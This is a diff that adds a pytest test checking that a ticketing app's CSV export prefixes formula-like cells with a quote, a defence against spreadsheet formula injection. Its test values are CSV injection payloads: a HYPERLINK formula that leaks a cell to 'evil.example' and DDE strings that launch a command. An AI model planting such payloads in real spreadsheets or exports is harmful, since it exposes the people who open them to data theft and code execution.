@@ -191,6 +191,22 @@ def test_list_tickets_as_csv(client, conn, org, inbox, base):
 
 
 @pytest.mark.parametrize(
+    "subject",
+    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
+     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"],
+)  # fmt: skip
+def test_csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote(
+    client, conn, org, inbox, base, subject
+):
+    make_ticket(conn, org.org_id, inbox.id, subject, "=cmd@example.org")
+    response = client.get(base("listTickets") + "?fileType=csv")
+    [row] = csv.DictReader(io.StringIO(response.data.decode(), newline=""))
+    assert row["subject"] == "'" + subject
+    assert row["fromEmail"] == "'=cmd@example.org"
+    assert row["ticketID"].isdigit()
+
+
+@pytest.mark.parametrize(
     ("query", "field"),
     [("?limit=0", "limit"), ("?status=lost", "status"), ("?updatedAfter=yesterday", "updatedAfter"),
      ("?cursorId=3", "cursorUpdated"), ("?fileType=xml", "fileType")],
